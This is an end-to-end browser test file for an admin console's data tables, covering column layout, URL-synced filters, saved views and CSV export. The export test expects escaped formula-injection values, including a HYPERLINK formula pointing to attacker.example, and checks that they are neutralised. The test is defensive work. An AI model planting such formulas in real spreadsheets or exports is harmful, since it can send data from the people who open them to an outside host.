import { text as textOf } from 'node:stream/consumers';
import type { Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import { siteForEachTest } from './harness.ts';
import { boxOf, headsOutOfReach, movedPx, nextFrames, ROUNDING_PX, resize, untilTypeface } from './layout.ts';

const site = siteForEachTest();

const wide = { width: 1920, height: 1080 };
/** The last column is there once the permissions have been read, which can be after the rows. */
const ready = (page: Page) =>
  page
    .getByRole('table', { name: /^Users, [1-9]/ })
    .getByRole('columnheader', { name: 'Actions' })
    .waitFor();
const cellsOf = (page: Page) =>
  page
    .locator('tbody tr')
    .evaluateAll((rows) => rows.map((row) => [...row.children].map((cell) => cell.textContent)));
const headsOf = (page: Page) => page.locator('.ak-data-table-frame thead th').allTextContents();

const isAsWideAsWindow = (page: Page) =>
  page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);

async function openTab(page: Page, address: string): Promise<Page> {
  const tab = await page.context().newPage();
  await tab.goto(address);
  await ready(tab);
  return tab;
}

describe('a table of the console', () => {
  it('shows the same rows, in the same order and columns, where its address is opened in a new tab', async () => {
    const page = await site.newPage({ account: 'globalAdmin' });
    await page.setViewportSize(wide);
    await page.goto('/global/users');
    await ready(page);
    await page.getByRole('columnheader', { name: 'Display name' }).waitFor();
    await page.getByRole('button', { name: 'Columns' }).click();
    await page.getByRole('menuitemcheckbox', { name: 'Display name' }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Email', exact: true }).click();
    await page.getByRole('button', { name: 'Email', exact: true }).click();
    await page.getByRole('combobox', { name: 'Rows per page' }).selectOption('50');
    await page.getByRole('searchbox', { name: 'Filter users' }).fill('mail');
    await expect.poll(() => page.url()).toMatch(/[?&]filter=mail&sort=-email&size=50&columns=/);
    await page
      .getByRole('columnheader', { name: 'Email' })
      .and(page.locator('[aria-sort=descending]'))
      .waitFor();
    await page.getByText(/^[\d–]+ of \d+, filtered from \d+$/).waitFor();
    await page.getByRole('columnheader', { name: 'Display name' }).waitFor({ state: 'detached' });
    const shown = await cellsOf(page);

    const tab = await openTab(page, page.url());
    await tab.setViewportSize(wide);
    await expect.poll(() => cellsOf(tab)).toEqual(shown);
    expect(await tab.getByRole('columnheader', { name: 'Display name' }).count()).toBe(0);
    await expect.poll(() => tab.getByRole('searchbox', { name: 'Filter users' }).inputValue()).toBe('mail');

    await tab.goto(new URL('/global/users?sort=-username&size=20&page=2', site.url).href);
    await ready(tab);
    const second = await cellsOf(tab);
    const again = await openTab(page, tab.url());
    await expect.poll(() => cellsOf(again)).toEqual(second);
  });

  it('has every column in a window that has room for it', async () => {
    const page = await site.newPage({ account: 'globalAdmin' });
    await page.setViewportSize(wide);
    await page.goto('/global/coupons');
    await page.getByRole('table', { name: /^Coupons, [1-9]/ }).waitFor();
    await page.getByRole('columnheader', { name: 'ID', exact: true }).waitFor();
    await page.goto('/global/users');
    await ready(page);
    for (const name of [
      'Display name',
      'Email',
      'Verified',
      'Grandfathered',
      'Edu override',
      'Trial',
      'Actions',
    ]) {
      await page.getByRole('columnheader', { name, exact: true }).waitFor();
    }
  });

  const columnsOf = [
    ['/global/users', 'Username, Display name, Email, Verified, Grandfathered, Edu override, Trial'],
    ['/tickets', 'ID, Status, Message, Contact email, Creator, Created, Age'],
  ] as const;
  const otherColumnsOf = [
    [
      '/global/coupons',
      'ID, Code, Value, Percentage, Months, Uses, Max uses, For users, For projects, Created, Actions',
    ],
    ['/global/enterprisedeals', 'Name, Created, Period (days), Soft limit, Hard limit, Institution ID'],
    ['/global/projects', 'ID, Name, Description, Created, Upgraded override'],
    ['/organizations/users/2', 'Username, Email, Admin, Actions'],
    ['/organizations/projects/2', 'ID, Name, Description, Actions'],
    ['/stats?tab=lti', 'Institution, Organization, ID, Projects, Users, Nodes, Tags, Connections'],
  ] as const;
  const columnsAreInReach = async (path: string, names: string) => {
    const page = await site.newPage({ account: 'globalAdmin' });
    await page.goto(path);
    await page.locator('.ak-data-table-rows .ak-data-table-row').first().waitFor();
    for (const width of [1280, 1440, 2560]) {
      await resize(page, width, 900);
      const message = `${width} px`;
      await expect.poll(() => headsOf(page), { message }).toEqual(expect.arrayContaining(names.split(', ')));
      await expect.poll(() => headsOutOfReach(page), { message }).toEqual([]);
      await expect.poll(() => isAsWideAsWindow(page), { message }).toBe(true);
    }
  };
  const inReach = 'has every column of %s in sight or in reach of scrolling, from 1280 px on';
  it.each(columnsOf)(inReach, columnsAreInReach);
  it.each(otherColumnsOf)(inReach, { tags: 'long' }, columnsAreInReach);

  it('of users scrolls to all specified columns at 1024 px, with no row above two lines', async () => {
    const page = await site.newPage({ account: 'globalAdmin', width: 1024 });
    await page.goto('/global/users?filter=mail.example');
    await ready(page);
    const frame = page.locator('.ak-data-table-frame[data-scrolls]');
    await frame.waitFor();
    await expect
      .poll(() => headsOf(page))
      .toEqual(
        expect.arrayContaining([
          'Display name',
          'Email',
          'Verified',
          'Grandfathered',
          'Edu override',
          'Trial',
        ]),
      );
    await expect.poll(() => frame.locator('thead th:not(:visible)').count()).toBe(0);
    const address = frame.getByRole('cell', { name: /^[\w.]{6,14}@mail\.example$/ });
    await address.nth(1).waitFor();
    const highest = () =>
      address.evaluateAll((cells) =>
        Math.max(...cells.map((cell) => cell.closest('tr')?.querySelector('th')?.offsetHeight ?? Infinity)),
      );
    await expect.poll(highest).toBeLessThanOrEqual(56);
  });

  it('that scrolls keeps its last row clear of a scrollbar drawn over its end', async () => {
    const page = await site.newPage({ account: 'globalAdmin', width: 1024 });
    await page.goto('/global/users');
    await ready(page);
    const frame = page.locator('.ak-data-table-frame[data-scrolls]');
    await frame.waitFor();
    const roomPx = () =>
      frame.evaluate((node) => {
        node.scrollTop = node.scrollHeight;
        const end = node.getBoundingClientRect().top + node.clientTop + node.clientHeight;
        return end - (node.querySelector('tbody tr:last-child')?.getBoundingClientRect().bottom ?? end);
      });
    await expect.poll(roomPx).toBeGreaterThan(7);
  });

  it('keeps every column at its place when a cell is changed and another page is shown', async () => {
    const { users } = site.api.db;
    const [user] = users;
    if (user) users.put({ ...user, id: 900_719_925_474_099, username: 'zz', email: 'zz@mail.example' });
    const page = await site.newPage({ account: 'globalAdmin' });
    await page.goto('/global/users?columns=id,username,email,trial,actions&size=100');
    await ready(page);
    await page.locator('.ak-data-table-frame[data-holds]').waitFor();
    await untilTypeface(page);
    await nextFrames(page);
    const places = () =>
      page.locator('thead th').evaluateAll((cells) => cells.map((cell) => cell.getBoundingClientRect().left));
    const before = await places();
    const moved = async () => movedPx(await places(), before);
    await page.getByRole('button', { name: 'Restart' }).first().click();
    await page.locator('tbody tr').getByText('Runs until').first().waitFor();
    await expect.poll(moved).toBeLessThanOrEqual(ROUNDING_PX);
    await page.getByRole('button', { name: 'Next page' }).click();
    await expect.poll(() => page.url()).toContain('page=2');
    await page.locator('tbody').getByText('900719925474099').waitFor();
    await expect.poll(moved).toBeLessThanOrEqual(ROUNDING_PX);
  });

  it('is as wide in a column as the longest word on its buttons', async () => {
    const page = await site.newPage({ account: 'globalAdmin', context: { locale: 'de' } });
    for (const path of ['/global/coupons', '/global/enterprisedeals']) {
      await page.goto(path);
      await page.locator('.ak-data-table-frame[data-holds]').waitFor();
      const linesOf = (labels: Element[]) =>
        labels.map((label) => {
          const text = document.createRange();
          text.selectNodeContents(label);
          return new Set(Array.from(text.getClientRects(), ({ top }) => Math.round(top))).size;
        });
      const labels = page.locator('tbody tr:not([aria-hidden]) .ak-button-label:not(:empty)');
      await labels.first().waitFor();
      expect(Math.max(...(await labels.evaluateAll(linesOf))), path).toBe(1);
    }
  });

  it('says which columns have no room, and scrolls to one that is chosen all the same', async () => {
    const page = await site.newPage({ account: 'globalAdmin', width: 1100 });
    await page.goto('/global/coupons');
    await page.getByRole('table', { name: /^Coupons, [1-9]/ }).waitFor();
    const header = page.getByRole('columnheader', { name: 'Created', exact: true });
    await header.waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Columns' }).click();
    const choice = page.getByRole('menuitemcheckbox', { name: 'Created', exact: true });
    await expect.poll(() => choice.getAttribute('aria-checked')).toBe('false');
    await expect.poll(() => choice.textContent()).toContain('Hidden: not enough width');
    await choice.click();
    await expect.poll(() => choice.getAttribute('aria-checked')).toBe('true');
    await expect.poll(() => choice.textContent()).toBe('Created');
    await page.keyboard.press('Escape');
    await expect.poll(() => new URL(page.url()).searchParams.get('columns')).toContain('created');

    const frame = page.locator('.ak-data-table-frame');
    const last = page.getByRole('columnheader', { name: 'Actions' }).last();
    // The table measures itself again in a later frame, which can widen it after a scroll.
    const cutPx = async () => {
      await last.scrollIntoViewIfNeeded();
      const [own, around] = [await boxOf(last), await boxOf(frame)];
      return own.x + own.width - (around.x + around.width);
    };
    await expect.poll(cutPx).toBeLessThanOrEqual(ROUNDING_PX);
    await expect.poll(() => isAsWideAsWindow(page)).toBe(true);
  });

  it('gives the rows that match as CSV in the order shown, formulas neutralised', async () => {
    const page = await site.newPage({ account: 'globalAdmin' });
    await page.goto(
      '/global/users?filter=mail.example&sort=-email&columns=email,displayName,isVerified,created&page=2',
    );
    await page.getByRole('columnheader', { name: 'Created' }).waitFor();
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^users-\d{4}-\d\d-\d\d\.csv$/);
    const text = await textOf(await file.createReadStream());
    const lines = text.replace('\uFEFF', '').trimEnd().split('\r\n');
    expect(lines[0]).toBe('Username,Display name,Email,Verified,Created');
    const plain = (names: readonly string[]) => names.filter((name) => /^[\w.]+$/.test(name));
    const saved = plain(lines.slice(1).map((line) => line.split(',', 1)[0] ?? ''));
    expect(saved.length).toBeGreaterThan(3);
    await page.getByRole('combobox', { name: 'Rows per page' }).selectOption('100');
    await expect.poll(() => page.getByRole('rowheader').count()).toBe(lines.length - 1);
    await expect.poll(async () => plain(await page.getByRole('rowheader').allTextContents())).toEqual(saved);
    const formula = lines.find((line) => line.startsWith('formula,'));
    expect(formula).toContain(`"'=HYPERLINK(""http://attacker.example/`);
    expect(formula).toMatch(/,'=1\+1@mail\.example,(true|false),[^,]*$/);
  });

  it('has views that outlive a reload and follow into another tab', async () => {
    const page = await site.newPage({ account: 'globalAdmin' });
    await page.goto('/global/users?filter=trial&sort=-username');
    await ready(page);
    const shown = await cellsOf(page);
    const other = await openTab(page, '/global/users');
    await page.bringToFront();
    const views = { name: 'Views of Users' };
    await page.getByRole('button', views).click();
    await page.getByRole('menuitem', { name: 'Save This View…' }).click();
    await page.getByRole('textbox', { name: 'Name' }).fill('Trials');
    await page.keyboard.press('Enter');
    await page.getByRole('dialog').waitFor({ state: 'detached' });

    await other.bringToFront();
    await other.getByRole('button', views).click();
    await other.getByRole('menuitem', { name: 'Trials' }).click();
    await expect.poll(() => cellsOf(other)).toEqual(shown);

    await page.bringToFront();
    await page.getByRole('button', views).click();
    await page.getByRole('menuitem', { name: 'Default view' }).click();
    await expect.poll(() => new URL(page.url()).search).toBe('');
    await page.reload();
    await ready(page);
    await page.getByRole('button', views).click();
    await page.getByRole('menuitem', { name: 'Trials' }).click();
    await expect.poll(() => new URL(page.url()).search).toBe('?filter=trial&sort=-username');
    await expect.poll(() => cellsOf(page)).toEqual(shown);
  });
});
